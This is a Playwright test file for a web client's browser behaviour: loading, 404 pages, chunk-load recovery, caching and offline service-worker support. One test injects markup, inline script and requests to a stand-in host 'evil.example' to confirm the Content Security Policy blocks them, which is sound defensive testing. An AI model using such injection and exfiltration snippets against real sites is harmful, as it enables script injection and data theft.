"""The page itself in a real browser: it opens, obeys its policy, asks nobody else, is kept, opens without a hub."""

from typing import Any

import pytest
from playwright.async_api import expect

from tests.browser.conftest import Room
from tests.browser.window import CUT

pytestmark = pytest.mark.asyncio(loop_scope="session")


async def test_the_page_opens_and_asks_nobody_but_the_hub(room: Room) -> None:
    async with room.hub() as hub, room.window(hub) as phone:
        answer = await phone.page.goto("/")
        assert answer is not None
        assert answer.status == 200
        await expect(phone.page.locator("#app")).not_to_be_empty()
        await phone.shot("signed-out")


async def test_a_path_of_a_session_opens_the_page(room: Room) -> None:
    async with room.hub() as hub, room.window(hub) as phone:
        await phone.page.goto("/s/0b5e7a52-3c5f-4d53-a2a8-6e0d9b1f4c11")
        await expect(phone.page.locator("#app")).not_to_be_empty()


async def test_an_address_that_leads_nowhere_says_so_and_leads_on(room: Room) -> None:
    async with room.hub() as hub, room.learner(hub, forgives=("status of 404",)) as ada:
        answer = await ada.page.goto("/sessions")
        assert answer is not None
        assert answer.status == 404
        await expect(ada.page.get_by_role("heading", name="There is nothing here")).to_be_visible()
        await ada.shot("nowhere")
        await ada.page.get_by_role("link", name="Back to the beginning").click()
        await expect(ada.beginning).to_be_visible()


async def test_a_part_of_the_page_that_does_not_come_is_told_of_and_comes_when_it_is_asked_for_again(
    room: Room,
) -> None:
    """What is fetched late may be gone, by a deploy or for want of a line."""
    options: dict[str, Any] = {"service_workers": "block", "forgives": (*CUT, "blocked by Playwright", "ERR_FAILED")}
    async with room.hub() as hub, room.learner(hub, **options) as ada:
        await ada.field.fill("Half a thought")
        settings = ada.page.get_by_role("button", name="Settings")
        for ways, text in ((1, "there may be a new version"), (0, "you are offline")):
            await ada.window.context.set_offline(not ways)
            await ada.page.route("**/SettingsMenu-*.js", lambda route: route.abort())
            await settings.click()
            await expect(ada.page.get_by_text(text)).to_be_visible()
            await expect(ada.page.get_by_role("button", name="Reload the page")).to_have_count(ways)
        await ada.window.context.set_offline(False)
        await ada.page.unroute_all()
        await settings.click()
        await expect(ada.page.get_by_role("dialog", name="Settings")).to_be_visible()
        await ada.page.route("**/assets/de-*.js", lambda route: route.abort())
        await ada.page.get_by_role("dialog").get_by_role("combobox").select_option("de")
        await expect(ada.page.get_by_text("there may be a new version")).to_be_visible()
        await ada.page.keyboard.press("Escape")
        await ada.page.unroute_all()
        await ada.page.get_by_role("button", name="Reload the page").click()
        await expect(ada.page.locator("html")).to_have_attribute("lang", "de")
        await expect(ada.page.locator("#composer")).to_have_value("Half a thought")


async def test_the_policy_stops_scripts_markup_and_addresses_that_are_not_ours(room: Room) -> None:
    """Were the page's own care to fail, this is what is behind it."""
    tried = """async () => {
        const said = [];
        try { document.body.innerHTML = "<b>text becomes markup</b>"; } catch (error) { said.push(error.name); }
        try { setTimeout("window.ran = true"); } catch (error) { said.push(error.name); }
        try { trustedTypes.createPolicy("another", {}); } catch (error) { said.push(error.name); }
        const script = document.createElement("script");
        script.append("window.ran = true");
        document.head.append(script);
        await fetch("https://evil.example/?q=chat").catch((error) => said.push(error.name));
        await new Promise((done) => {
            const image = new Image();
            image.onerror = done;
            image.src = "https://evil.example/?q=chat";
        });
        return [said, window.ran ?? false];
    }"""
    known = ("violates ", "Content Security Policy", "TrustedHTML", "TrustedScript", "Refused to ", "Executing inline")
    async with room.hub() as hub, room.window(hub, forgives=known) as phone:
        await phone.page.goto("/")
        said, ran = await phone.page.evaluate(tried)
        assert (said, ran) == (["TypeError"] * 4, False)
        assert phone.outside == []


async def test_files_are_asked_for_once_and_the_page_every_time(room: Room) -> None:
    async with (
        room.hub() as hub,
        room.window(hub, service_workers="block", forgives=("blocked by Playwright",)) as phone,
    ):
        await phone.page.goto("/")
        async with phone.page.expect_response("**/") as page:
            async with phone.page.expect_response("**/assets/*.js") as script:
                await phone.page.goto("/")
        held = await phone.page.evaluate(
            "performance.getEntriesByType('resource').filter((each) => each.name.includes('/assets/index'))"
            ".map((each) => each.transferSize)"
        )
        assert (await page.value).headers["cache-control"] == "no-cache"
        assert "immutable" in (await script.value).headers["cache-control"]
        assert set(held) == {0}  # nothing was sent


async def test_the_page_opens_again_without_the_hub(room: Room) -> None:
    async with room.hub() as hub, room.window(hub, forgives=CUT) as phone:
        await phone.page.goto("/")
        await phone.shell_is_kept()
        await phone.context.set_offline(True)
        answer = await phone.page.reload()
        assert answer is not None
        assert answer.from_service_worker
        await expect(phone.page.locator("#app")).not_to_be_empty()
        assert "default-src 'self'" in answer.headers["content-security-policy"]


async def test_the_worker_keeps_the_page_and_nothing_of_the_api(room: Room) -> None:
    async with room.hub() as hub, room.window(hub) as phone:
        await phone.page.goto("/")
        await phone.shell_is_kept()
        await phone.page.evaluate("fetch('/livez').then((answer) => answer.text())")
        kept = await phone.page.evaluate(
            "caches.keys().then((names) => Promise.all(names.map((name) => caches.open(name)"
            ".then((cache) => cache.keys()).then((keys) => keys.map((key) => new URL(key.url).pathname)))))"
        )
        assert len(kept) == 1
        assert {path for path in kept[0] if not path.startswith("/assets/")} <= {"/", "/favicon.svg"}


async def test_a_hub_whose_page_is_not_built_says_so_in_the_browser(room: Room) -> None:
    async with room.hub(web_dir=None) as hub, room.window(hub, forgives=("status of 404",)) as phone:
        await phone.page.goto("/")
        await expect(phone.page.get_by_text("The web client is not built.")).to_be_visible()
